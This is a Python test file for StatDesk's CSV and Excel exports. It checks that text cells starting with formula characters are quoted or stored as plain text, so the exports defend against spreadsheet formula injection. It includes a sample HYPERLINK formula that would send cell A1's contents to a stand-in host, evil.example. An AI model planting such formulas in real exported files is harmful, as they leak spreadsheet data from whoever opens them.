"""Every CSV and workbook StatDesk writes is safe to open: text never becomes a formula."""

from __future__ import annotations

import io
from datetime import date
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from typer.testing import CliRunner

from dashboard import downloads
from metrics.access import operator
from metrics.cli import app
from metrics.commitments import create_commitment, create_session
from metrics.ingest import ingest
from metrics.safe_output import FORMULA_PREFIXES, neutralise, write_csv
from tests.workspace_factory import AS_OF, agg_rows, make_workspace, write_feed

runner = CliRunner()
ATTACK = '=HYPERLINK("http://evil.example/?q="&A1,"Click")'


def _read_csv(text: str) -> pl.DataFrame:
    return pl.read_csv(io.StringIO(text.lstrip("\ufeff")), infer_schema=False)


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_each_formula_prefix_is_quoted(prefix: str) -> None:
    df = pl.DataFrame({"text": [f"{prefix}1+1", "plain", None], "n": [-3, 4, 5]})
    out = _read_csv(write_csv(df))
    assert out["text"].to_list() == [f"'{prefix}1+1", "plain", None]
    assert out["n"].to_list() == ["-3", "4", "5"]  # numbers are not text: never quoted


def test_neutralise_keeps_shape_and_types() -> None:
    df = pl.DataFrame({"a": ["@SUM(A1)", "x"], "b": [1.5, -2.0], "d": [date(2026, 1, 1)] * 2})
    out = neutralise(df)
    assert out.schema == df.schema and out["a"].to_list() == ["'@SUM(A1)", "x"]
    assert out["b"].to_list() == [1.5, -2.0]


def test_xlsx_download_stores_formula_text_as_text() -> None:
    df = pl.DataFrame({"Commitment": [ATTACK, "+1", "fine"], "Due": [date(2026, 12, 1)] * 3})
    wb = openpyxl.load_workbook(io.BytesIO(downloads.to_xlsx({"Commitments": df})))
    ws = wb["Commitments"]
    cells = [ws.cell(row=r, column=1) for r in (2, 3, 4)]
    assert [c.data_type for c in cells] == ["s", "s", "s"]
    assert cells[0].value == ATTACK  # shown exactly as written, as text


def test_csv_download_quotes_formulas() -> None:
    out = _read_csv(downloads.to_csv(pl.DataFrame({"Commitment": [ATTACK]})).decode("utf-8"))
    assert out["Commitment"].to_list() == ["'" + ATTACK]


def test_cli_commitments_csv(tmp_path: Path) -> None:
    ws = make_workspace(tmp_path / "ws")
    with ws.session() as s:
        stat = create_session(s, held_on=date(2026, 11, 1), period="2026-10", by="staff", acting=operator())
        create_commitment(s, session_id=int(stat.id or 0), text=ATTACK, owner="-Owner",
                          due_on=date(2026, 12, 1), agency_id="ag1", by="staff", acting=operator())
    result = runner.invoke(app, ["commitments", "-w", str(ws.root), "--as-of", "2026-11-25"])
    assert result.exit_code == 0, result.output
    out = _read_csv(result.output)
    assert out["text"].to_list() == ["'" + ATTACK] and out["owner"].to_list() == ["'-Owner"]


def test_ingest_errors_and_error_report(tmp_path: Path) -> None:
    ws = make_workspace(tmp_path / "ws")
    rows = agg_rows(["2026-01"])
    rows[0]["numerator"] = ATTACK
    rows[1]["region"] = "@R1"
    path = write_feed(tmp_path / "jan.csv", rows)
    errors = tmp_path / "errors.csv"
    result = runner.invoke(app, ["ingest", "agg", str(path), "-w", str(ws.root), "--as-of",
                                 AS_OF.isoformat(), "--errors", str(errors)])
    assert result.exit_code == 0, result.output
    values = pl.read_csv(errors, infer_schema=False)["value"].to_list()
    assert sorted(values) == sorted(["'" + ATTACK, "'@R1"])
    report = tmp_path / "report.csv"
    result = runner.invoke(app, ["error-report", "agg", str(report), "-w", str(ws.root)])
    assert result.exit_code == 0, result.output
    df = pl.read_csv(report, infer_schema=False)
    assert sorted(df["value"].to_list()) == sorted(["'" + ATTACK, "'@R1"])
    assert all(not str(m).startswith(FORMULA_PREFIXES) for m in df["message"].to_list())
    rep = ingest(ws, "agg", path, received_on=AS_OF)
    assert rep.status == "duplicate"
